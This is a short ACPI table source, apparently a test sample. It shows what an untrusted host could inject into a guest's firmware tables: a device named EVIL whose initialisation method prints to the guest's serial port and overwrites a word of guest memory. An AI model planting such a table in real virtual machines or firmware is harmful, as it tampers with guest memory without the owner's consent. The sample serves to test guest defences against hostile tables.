// What a host may put into its tables: code that prints on the guest's console and changes the guest's memory.
DefinitionBlock ("", "SSDT", 2, "HOST", "BADAML", 1)
{
  Scope (\_SB)
  {
    Device (EVIL)
    {
      Name (_HID, "EVIL0001")
      OperationRegion (COM1, SystemIO, 0x3F8, 8)
      Field (COM1, ByteAcc, NoLock, Preserve) { PORT, 8 }
      OperationRegion (RAM, SystemMemory, 0x20000, 4)
      Field (RAM, DWordAcc, NoLock, Preserve) { WORD, 32 }
      Method (_INI, 0, Serialized)
      {
        ToBuffer ("\nBADAML\n", Local1)
        Local0 = Zero
        While (Local0 < SizeOf (Local1))
        {
          PORT = DerefOf (Local1 [Local0])
          Local0++
        }
        WORD = 0x44454E57
      }
      Method (_STA) { Return (0x0F) }
    }
  }
}
